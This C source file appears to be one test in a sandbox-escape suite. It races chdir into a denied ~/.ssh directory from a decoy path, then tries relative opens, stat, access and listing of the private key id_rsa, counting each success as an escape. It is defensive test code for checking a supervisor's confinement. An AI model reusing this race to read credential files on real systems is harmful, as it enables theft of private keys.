/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 26: chdir into a denied directory, then relative opens. chdir
 * cannot be emulated (the supervisor lets the kernel do it), so a second
 * thread flips the chdir path between ~/work/.a/.ssh (the decoy's
 * directory) and ~/work/../.ssh (the secret's). Whenever the program lands
 * in ~/.ssh, it tries what a relative name could give: open("id_rsa"),
 * open("./id_rsa"), stat, access, and listing "." (getdents). Being there
 * is not yet an escape; getting anything out of it is.
 */
#include <dirent.h>
#include <pthread.h>

#include "escape-common.h"

int main(void)
{
	static char path[PATH_MAX];
	char decoydir[PATH_MAX], secretdir[PATH_MAX], cwd[PATH_MAX];
	struct esc_flip f = { 0 };
	unsigned long tries = 0, landed = 0, decoy_cwd = 0, refused = 0;
	size_t at;
	pthread_t t;
	double end;

	esc_init("chdir", "race chdir into ~/.ssh, then open, stat and list by relative names");
	ESC_FMT(decoydir, "%s/.a/.ssh", esc_work);
	ESC_FMT(secretdir, "%s/../.ssh", esc_work);
	if (chdir(secretdir) == 0) {
		esc_say("a direct chdir into ~/.ssh worked");
		landed++;
	} else
		esc_say("direct chdir into ~/.ssh: %m (held)");
	if (chdir(decoydir) < 0)
		esc_setup_error("chdir %s: %m", decoydir);
	esc_control("chdir into the decoy's directory");

	at = esc_diff_at(decoydir, secretdir);
	ESC_FMT(path, "%s", decoydir);
	f.at = &path[at];
	f.a = decoydir[at];
	f.b = secretdir[at];
	if (pthread_create(&t, NULL, esc_flipper, &f))
		esc_setup_error("pthread_create failed");
	end = esc_now() + esc_seconds;
	while (esc_now() < end) {
		bool in_secret;
		struct stat st, dst;

		tries++;
		if (chdir(path) < 0) {
			refused++;
			continue;
		}
		/* Where are we? Compare the directory with the decoy's. */
		if (stat(decoydir, &dst) == 0 && stat(".", &st) == 0)
			in_secret = st.st_ino != dst.st_ino;
		else
			in_secret = !getcwd(cwd, sizeof(cwd)) || !strstr(cwd, "/.a/");
		if (!in_secret) {
			decoy_cwd++;
			continue;
		}
		if (landed++ < 3)
			esc_say("landed in a directory that is not the decoy's (attempt %lu)",
				tries);
		esc_try_open("relative open in ~/.ssh", AT_FDCWD, "id_rsa", O_RDONLY, true);
		esc_try_open("relative open in ~/.ssh", AT_FDCWD, "./id_rsa", O_RDONLY, true);
		if (stat("id_rsa", &st) == 0)
			esc_escape("stat(\"id_rsa\") in ~/.ssh worked (inode %lu)",
				   (unsigned long)st.st_ino);
		if (access("id_rsa", R_OK) == 0)
			esc_escape("access(\"id_rsa\") in ~/.ssh said readable");
		{
			DIR *d = opendir(".");

			if (d) {
				struct dirent *e;

				while ((e = readdir(d)))
					if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
						esc_escape("listed ~/.ssh: '%s'", e->d_name);
				closedir(d);
			}
		}
		if (esc_escaped)
			break;
		(void)!chdir(decoydir);
	}
	atomic_store(&f.stop, 1);
	pthread_join(t, NULL);
	esc_say("%lu chdirs: %lu into the decoy's directory, %lu elsewhere, %lu refused",
		tries, decoy_cwd, landed, refused);
	if (decoy_cwd)
		esc_control("%lu racing chdirs into the decoy's directory were served", decoy_cwd);
	return esc_finish();
}
